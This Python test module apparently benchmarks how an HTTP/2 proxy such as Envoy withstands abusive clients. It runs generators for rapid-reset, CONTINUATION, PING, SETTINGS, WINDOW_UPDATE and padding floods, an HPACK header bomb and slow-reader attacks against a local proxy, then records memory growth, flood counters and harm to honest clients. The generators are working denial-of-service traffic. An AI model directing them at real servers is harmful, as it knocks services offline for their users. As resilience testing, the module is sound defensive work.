"""HTTP/2 used against the server: what a client may send to cost it more than it costs, and what became of it.

`python -m conformance.h2abuses envoy` (in `tests`) prints a table. Each abuse has a connection of its own; beside it
honest clients ask for answers all the time. Must not know what a proxy should do about it.
"""

from __future__ import annotations

import contextlib
import os
import socket
import sys
import tempfile
import threading
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path

import hpack

from differential import frames
from differential.backend import Backend, free_port
from differential.counts import Counts
from differential.frames import END_HEADERS, END_STREAM, PADDED, PREFACE, TYPES, Frame
from differential.h2client import converse
from differential.proxies import Proxy, running
from differential.scenario import Scenario

#: What an abuse may send at most: a server that still listens then has no defence.
MAX_BYTES, MAX_SECONDS = 24 << 20, 12.0
_REQUEST = [(":method", "GET"), (":scheme", "http"), (":authority", "abuse.example"), (":path", "/")]


def _frame(kind: str, payload: bytes = b"", *, flags: int = 0, stream: int = 0) -> bytes:
    return frames.encode(Frame(TYPES[kind], flags, stream, payload))


def _settings(**values: int) -> bytes:
    pairs = ((frames.SETTINGS[n].to_bytes(2, "big") + v.to_bytes(4, "big")) for n, v in values.items())
    return _frame("SETTINGS", b"".join(pairs))


def _head(block: bytes, stream: int, *, end: bool = True) -> bytes:
    return _frame("HEADERS", block, flags=END_HEADERS | (END_STREAM if end else 0), stream=stream)


def _plain(*further: tuple[str, str], method: str = "GET", path: str = "/") -> bytes:
    """A block that leaves the dynamic table alone: the same bytes do for every stream."""
    encoder = hpack.Encoder()
    encoder.header_table_size = 0
    fields = [(":method", method), (":scheme", "http"), (":authority", "abuse.example"), (":path", path), *further]
    return b"".join(encoder.encode([hpack.NeverIndexedHeaderTuple(n, v)]) for n, v in fields)


def _streams() -> Iterator[int]:
    return iter(range(1, 1 << 30, 2))


# === the abuses: bytes without end ===


def rapid_reset() -> Iterator[bytes]:
    block = _plain(("x-do", "delay=1"))
    for stream in _streams():
        yield _head(block, stream) + _frame("RST_STREAM", (8).to_bytes(4, "big"), stream=stream)


def made_to_reset() -> Iterator[bytes]:
    """The server is brought to reset the stream itself."""
    block = _plain(("x-do", "delay=1"))
    for stream in _streams():
        yield _head(block, stream) + _frame("WINDOW_UPDATE", bytes(4), stream=stream)


def continuation_flood() -> Iterator[bytes]:
    yield _frame("HEADERS", _plain(), stream=1, flags=END_STREAM)
    block = hpack.Encoder().encode([hpack.NeverIndexedHeaderTuple("x-a", "b")])
    while True:
        yield _frame("CONTINUATION", block, stream=1)


def empty_continuations() -> Iterator[bytes]:
    yield _frame("HEADERS", _plain(), stream=1, flags=END_STREAM)
    while True:
        yield _frame("CONTINUATION", stream=1)


def ping_flood() -> Iterator[bytes]:
    while True:
        yield _frame("PING", b"floodingx"[:8])


def settings_flood() -> Iterator[bytes]:
    while True:
        yield _settings(MAX_CONCURRENT_STREAMS=100)


def empty_data_flood() -> Iterator[bytes]:
    yield _head(_plain(method="POST"), 1, end=False)
    while True:
        yield _frame("DATA", stream=1)


def padding_flood() -> Iterator[bytes]:
    """DATA that holds nothing but padding."""
    yield _head(_plain(method="POST"), 1, end=False)
    while True:
        yield _frame("DATA", b"\x20" + bytes(32), flags=PADDED, stream=1)


def priority_flood() -> Iterator[bytes]:
    yield _head(_plain(method="POST"), 1, end=False)
    while True:
        yield _frame("PRIORITY", (0).to_bytes(4, "big") + b"\x10", stream=1)


def window_update_flood() -> Iterator[bytes]:
    yield _head(_plain(method="POST"), 1, end=False)
    while True:
        yield _frame("WINDOW_UPDATE", (1).to_bytes(4, "big"), stream=1)


def connection_window_update_flood() -> Iterator[bytes]:
    while True:
        yield _frame("WINDOW_UPDATE", (1).to_bytes(4, "big"))


def header_bomb() -> Iterator[bytes]:
    """A large entry of the header table, named a thousand times by a byte each."""
    encoder = hpack.Encoder()
    yield _head(encoder.encode([*_REQUEST, ("x-bomb", "b" * 3000)]), 1)
    bomb = encoder.encode(_REQUEST) + encoder.encode([("x-bomb", "b" * 3000)]) * 1000
    for stream in range(3, 1 << 30, 2):
        yield _head(bomb, stream)


def too_large_heads() -> Iterator[bytes]:
    """One head after the other that is larger than any server takes."""
    value = hpack.Encoder().encode([hpack.NeverIndexedHeaderTuple("x-large", "v" * 12000)])
    for stream in _streams():
        yield _frame("HEADERS", _plain(), stream=stream, flags=END_STREAM)
        for part in range(8):
            yield _frame("CONTINUATION", value, stream=stream, flags=END_HEADERS if part == 7 else 0)


def slow_reader() -> Iterator[bytes]:
    """Thirty-two large answers, through windows of one byte."""
    block = _plain(("x-do", "len=1000000"))
    for stream in range(1, 64, 2):
        yield _head(block, stream)
    while True:
        yield b""


def held_streams() -> Iterator[bytes]:
    """Streams that are opened and never go on."""
    block = _plain(method="POST")
    for stream in range(1, 400, 2):
        yield _head(block, stream, end=False)
    while True:
        yield b""


def unknown_frames() -> Iterator[bytes]:
    while True:
        yield frames.encode(Frame(0xFA, 0, 0, b"nothing"))


@dataclass(frozen=True)
class Abuse:
    script: Callable[[], Iterator[bytes]]
    #: the counter of Envoy's that tells of it
    counter: str = ""
    #: legal: it may go on, so long as it costs nothing
    harmless: bool = False
    settings: dict[str, int] = field(default_factory=dict)
    #: how long to look on once everything is sent
    seconds: float = MAX_SECONDS
    #: answers are read, not left to pile up
    reads: bool = False

    @property
    def name(self) -> str:
        return self.script.__name__


ABUSES = (
    Abuse(rapid_reset, "http.ingress.downstream_rq_too_many_premature_resets", reads=True),
    Abuse(made_to_reset, "http.ingress.downstream_cx_protocol_error", reads=True),
    Abuse(continuation_flood, "http2.header_overflow", reads=True),
    Abuse(empty_continuations, "http2.inbound_empty_frames_flood", reads=True),
    Abuse(ping_flood, "http2.outbound_control_flood"),
    Abuse(settings_flood, "http2.outbound_control_flood"),
    Abuse(empty_data_flood, "http2.inbound_empty_frames_flood", reads=True),
    Abuse(padding_flood, "http2.inbound_empty_frames_flood", reads=True),
    Abuse(priority_flood, "http2.inbound_priority_frames_flood", reads=True),
    Abuse(window_update_flood, "http2.inbound_window_update_frames_flood", reads=True),
    Abuse(connection_window_update_flood, "http2.inbound_window_update_frames_flood", reads=True),
    Abuse(header_bomb, "http2.header_list_size_too_large", harmless=True, reads=True, seconds=4),
    Abuse(too_large_heads, "http2.header_list_size_too_large", harmless=True, reads=True, seconds=4),
    Abuse(slow_reader, harmless=True, settings={"INITIAL_WINDOW_SIZE": 1}, seconds=2),
    Abuse(held_streams, harmless=True, seconds=2),
    Abuse(unknown_frames, harmless=True, reads=True, seconds=3),
)


# === what became of it ===


@dataclass
class Outcome:
    ended: bool
    #: bytes it sent until then
    sent: int
    seconds: float
    #: bytes of resident memory at most, over those before
    growth: int
    honest: int
    harmed: list[str]
    counted: dict[str, int]


def _send(port: int, abuse: Abuse) -> tuple[bool, int]:
    """Sends the abuse until the other side ends the connection, or there is no sense in going on."""
    deadline, sent = time.monotonic() + abuse.seconds, 0
    script = abuse.script()
    with socket.create_connection(("127.0.0.1", port), timeout=5) as sock:
        sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        out = PREFACE + _settings(ENABLE_PUSH=0, **abuse.settings)
        while time.monotonic() < deadline:
            while len(out) < 32768 and sent < MAX_BYTES and (part := next(script)):
                out += part
            sock.settimeout(0.05)
            try:
                if out:
                    count = sock.send(out)
                    out, sent = out[count:], sent + count
                if (abuse.reads or not out) and _is_over(sock):
                    return True, sent
            except TimeoutError:
                continue
            except OSError:
                return True, sent
        # What is in the way has to be read before the end can be seen.
        sock.settimeout(1)
        with contextlib.suppress(TimeoutError):
            try:
                while sock.recv(1 << 16):
                    pass
            except ConnectionError:
                pass
            return True, sent
    return False, sent


def _is_over(sock: socket.socket) -> bool:
    sock.settimeout(0.002)
    try:
        return not sock.recv(1 << 16)
    except TimeoutError:
        return False


def _resident(pid: int) -> int:
    return int(Path(f"/proc/{pid}/statm").read_text().split()[1]) * os.sysconf("SC_PAGE_SIZE")


class _Beside:
    """Honest clients, and an eye on the memory, for as long as it lasts."""

    def __init__(self, proxy: Proxy) -> None:
        self.proxy = proxy
        self.most, self.honest = 0, 0
        self.harmed: list[str] = []
        self._stop = threading.Event()
        self._threads = [threading.Thread(target=t, daemon=True) for t in (self._watch, self._ask)]

    def __enter__(self) -> _Beside:
        for thread in self._threads:
            thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self._stop.set()
        for thread in self._threads:
            thread.join(20)

    def _watch(self) -> None:
        while not self._stop.wait(0.005):
            with contextlib.suppress(OSError):
                self.most = max(self.most, _resident(self.proxy.process.pid))

    def _ask(self) -> None:
        steps = frames.steps(["GET /; x-do: len=10", "WAIT 1", "GET /; x-do: len=2000"])
        while not self._stop.is_set():
            try:
                seen = converse(self.proxy.port, steps, timeout=20)
                bad = [n for n, m in seen.streams.items() if m.status != 200 or not m.ended]
                if bad or len(seen.streams) != 2:
                    self.harmed.append(f"streams {bad or seen.streams.keys()}, {seen.end}")
            except OSError as error:
                self.harmed.append(repr(error))
            self.honest += 2


def attempt(proxy: Proxy, abuse: Abuse) -> Outcome:
    """Lets the abuse loose on a warmed-up proxy."""
    with _Beside(proxy):
        time.sleep(0.3)
    before = _resident(proxy.process.pid)
    counts = Counts(
        proxy, [r"^http2\.", r"^http\.ingress\.downstream_(rq_too_many|cx_(protocol|destroy_local|overload))"]
    )
    begin = time.monotonic()
    with _Beside(proxy) as beside:
        ended, sent = _send(proxy.port, abuse)
        seconds = time.monotonic() - begin
        time.sleep(0.2)
    moved = {n: v for n, v in counts.at_rest().items() if "nghttp2" not in n and v > 0}
    return Outcome(ended, sent, seconds, max(0, beside.most - before), beside.honest, beside.harmed, moved)


@contextlib.contextmanager
def victim(kind: str, directory: Path) -> Iterator[Proxy]:
    """The proxy, with the defaults of a gateway, in front of an HTTP/1 upstream."""
    backend = Backend("a").start()
    admin, port, log = free_port(), free_port(), directory / "access.log"
    ports = {"a": backend.port, "b": backend.port, "dead": free_port()}
    # The usual second to connect would put a busy machine's honest failures on the abuse.
    endpoint = {"address": {"socket_address": {"address": "127.0.0.1", "port_value": "@a@"}}}
    cluster = {
        "name": "a",
        "type": "STATIC",
        "connect_timeout": "20s",
        "load_assignment": {"cluster_name": "a", "endpoints": [{"lb_endpoints": [{"endpoint": endpoint}]}]},
    }
    document = {"cases": [], "hcm": {"access_log": []}, "clusters": [cluster]}
    text = Scenario("victim", document, ()).bootstrap(ports, str(log), admin, port)
    try:
        with running(kind, text, admin_port=admin, port=port, directory=directory, log=log) as proxy:
            yield proxy
    finally:
        backend.stop()


def main(kind: str) -> None:
    for abuse in ABUSES:
        with tempfile.TemporaryDirectory() as directory, victim(kind, Path(directory)) as proxy:
            o = attempt(proxy, abuse)
        print(
            f"{abuse.name:32} {'ended' if o.ended else 'goes on':8} after {o.sent:>9} B, {o.seconds:5.1f} s, "
            f"+{o.growth / 2**20:5.1f} MiB, honest {o.honest - len(o.harmed)}/{o.honest}, "
            f"{o.counted} {' '.join(o.harmed)}",
            flush=True,
        )


if __name__ == "__main__":
    main(sys.argv[1] if len(sys.argv) > 1 else "tidegate")
